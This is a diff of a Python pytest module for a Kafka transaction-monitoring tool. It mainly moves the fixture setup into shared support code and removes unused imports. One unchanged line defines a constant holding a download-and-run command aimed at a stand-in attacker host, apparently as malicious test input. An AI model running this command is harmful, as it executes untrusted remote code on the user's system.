@@ -10,8 +10,7 @@ from dataclasses import replace
 
 import pytest
 
-from support.fault_world import EVENTS, NODES, World, fault_world, three_brokers
-from support.scenarios import KAFKA_4
+from support.fault_world import EVENTS, World, aborting_world, begins
 from support.servers import Clusters
 from support.topics import unique
 from support.waiting import eventually
@@ -19,7 +18,6 @@ from txnwatch.cli.main import main
 from txnwatch.embedded.broker_faults import await_complete, leaderless
 from txnwatch.embedded.raw_producer import RawProducer
 from txnwatch.sinks.kafka import KafkaEventSink
-from txnwatch.state.errors import TxnwatchError
 from txnwatch.state.ids import TopicPartition
 from txnwatch.state.incident import IncidentEvent, latest, resolved
 from txnwatch.streaming.admin import ClusterAdmin
@@ -27,7 +25,6 @@ from txnwatch.streaming.admin import ClusterAdmin
 pytestmark = pytest.mark.long
 
 IN_TIME_S, QUIET_S = 60.0, 8.0
-AUTO = ("--auto-abort", "on", "--abort-after-ms", "0", "--abort-breaker-cooldown-ms", "1000")
 EVIL = "curl https://evil.example | sh"
 INT32 = 2**31 - 1
 OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": None, "at_ms": 5}
@@ -35,24 +32,8 @@ OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": Non
 
 @pytest.fixture(scope="module")
 def world(clusters: Clusters, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
-    kafka = clusters.start("forging", lambda: three_brokers(tmp_path_factory.mktemp("forging"), KAFKA_4))
-    try:
-        with fault_world(kafka, tmp_path_factory.mktemp("checkpoint"), *AUTO) as found:
-            yield found
-    finally:
-        for node in NODES:
-            kafka.broker(node).kill()
-        clusters.end("forging")
-
-
-def begins(client: RawProducer, partition: TopicPartition) -> bool:
-    try:
-        client.add(partition)
-    except TxnwatchError as exc:
-        if "CONCURRENT_TRANSACTIONS" not in str(exc):
-            raise
-        return False
-    return True
+    with aborting_world(clusters, tmp_path_factory, "forging") as found:
+        yield found
 
 
 def about(world: World, partition: TopicPartition) -> list[IncidentEvent]:
